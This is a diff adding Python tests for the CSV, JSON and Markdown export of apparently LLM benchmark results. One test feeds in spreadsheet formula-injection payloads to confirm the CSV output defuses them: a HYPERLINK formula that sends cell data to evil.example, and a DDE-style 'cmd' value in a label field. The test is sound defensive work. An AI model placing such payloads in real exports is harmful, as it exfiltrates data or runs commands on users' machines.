@@ -195,3 +195,67 @@ def test_markdown_with_no_results_says_so() -> None:
 )
 def test_human_params(n_params: int | None, expected: str) -> None:
     assert human_params(n_params) == expected
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(start: str) -> None:
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    result = make_result(text=formula, label=f"{start}cmd|' /C calc'!A0")
+    result = result.model_copy(update={"prompt": f"{start}1+1"})
+    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
+    assert row["text"] == "'" + formula
+    assert row["prompt"] == f"'{start}1+1"
+    assert row["pane_label"].startswith("'")
+    assert float(row["temperature"]) == result.sampling.temperature  # numbers stay numbers
+    assert json.loads(to_json([result]))["results"][0]["text"] == formula  # JSON keeps it as is
+
+
+def test_csv_keeps_negative_numbers_as_numbers() -> None:
+    result = make_result(run_stats=stats(mean_logprob=-0.75))
+    row = next(csv.DictReader(io.StringIO(to_csv([result]))))
+    assert row["mean_logprob"] == "-0.75"
+
+
+def _markdown_row(markdown: str, name: str) -> list[str]:
+    line = next(line for line in markdown.splitlines() if line.startswith(f"| {name} |"))
+    return [cell.strip() for cell in line.strip("|").split("|")][1:]
+
+
+def test_markdown_stars_finished_runs_only_ties_together_and_marks_cached_figures() -> None:
+    fast = make_result(
+        label="fast", mode="sequential", run_stats=stats(decode_tps=300.0, cached_prompt_tokens=0)
+    )
+    tie = make_result(
+        label="tie", mode="sequential", run_stats=stats(decode_tps=300.04, cached_prompt_tokens=0)
+    )
+    stopped = make_result(
+        label="stopped", mode="sequential",
+        run_stats=stats(decode_tps=900.0, stop_reason="cancelled", cached_prompt_tokens=0),
+    )  # fmt: skip
+    cached = make_result(
+        label="cached", mode="sequential",
+        run_stats=stats(decode_tps=100.0, prompt_tps=9999.0, ttft_s=0.001, cached_prompt_tokens=30),
+    )  # fmt: skip
+    markdown = to_markdown([fast, tie, stopped, cached])
+    assert _markdown_row(markdown, "decode speed (tok/s)") == [
+        "★ 300.0",
+        "★ 300.0",
+        "900.0",
+        "100.0",
+    ]
+    prompt = _markdown_row(markdown, "prompt speed (tok/s)")
+    assert prompt[3] == "↺ 9999.0" and prompt[0] == "★ 812.5"
+    assert _markdown_row(markdown, "TTFT (s)")[3] == "↺ 0.001"
+    assert "↺: prompt served from the cache" in markdown
+
+
+def test_markdown_of_a_parallel_run_stars_no_speed() -> None:
+    a = make_result(
+        label="a", mode="parallel", run_stats=stats(decode_tps=300.0, peak_rss_mib=100.0)
+    )
+    b = make_result(
+        label="b", mode="parallel", run_stats=stats(decode_tps=200.0, peak_rss_mib=200.0)
+    )
+    markdown = to_markdown([a, b])
+    assert "★" not in "".join(_markdown_row(markdown, "decode speed (tok/s)"))
+    assert _markdown_row(markdown, "peak RSS (MiB)") == ["★ 100", "200"]
